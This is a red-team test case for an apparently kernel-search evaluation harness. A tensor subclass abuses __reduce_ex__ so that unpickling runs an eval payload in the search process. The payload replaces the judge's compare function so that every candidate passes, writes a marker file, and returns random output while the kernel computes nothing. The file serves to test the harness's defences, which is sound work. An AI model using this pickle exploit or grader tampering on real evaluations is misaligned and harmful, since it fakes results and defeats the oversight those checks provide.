"""CASE  py-reduce-rce
CLASS judge-crash: code run in the search process by unpickling the outputs

MECHANISM  The output is a torch.Tensor subclass whose __reduce_ex__ returns (eval,
(PAYLOAD,)). The worker pickles that into its outputs file; the search process unpickles it
with torch.load(weights_only=False), which calls eval(PAYLOAD) there. The payload replaces
kernforge.evaluate.judge.compare with a function that says "no error", writes
/tmp/kf-redteam-judge-rce.txt as a mark, and evaluates to a random tensor of the right shape
(random, so that no two sets are bit-identical). The kernel computes nothing: its output is
torch.empty_like(x).

WHY AN HONEST-LOOKING EVALUATOR ACCEPTS IT  `eval` appears only as a value (no call of it),
the payload is a string; nothing in the worker inspects the type of an output. Once the
judge's compare is replaced, this and every later candidate of the search is "ok".
(tests/redteam/run_current.py detects the patch and undoes it after the case.)

EXPECTED  cheat or wrong_result (never code of the candidate in the search process)
"""
import torch

_PAYLOAD = (
    "[setattr(__import__('kernforge.evaluate.judge', fromlist=['judge']), 'compare', "
    "lambda outs, oracles, *rest, **kw: (None, [0.0] * len(oracles))), "
    "__builtins__['open']('/tmp/kf-redteam-judge-rce.txt', 'w').write('ran in the search process\\n') "
    "if isinstance(__builtins__, dict) else __builtins__.open('/tmp/kf-redteam-judge-rce.txt', 'w')"
    ".write('ran in the search process\\n'), "
    "__import__('torch').rand(2, 40, 40)][-1]"
)


class Answer(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return (eval, (_PAYLOAD,))


def kf_forward(x, dim, half_to_float):
    return torch.empty_like(x).as_subclass(Answer)  # nothing computed
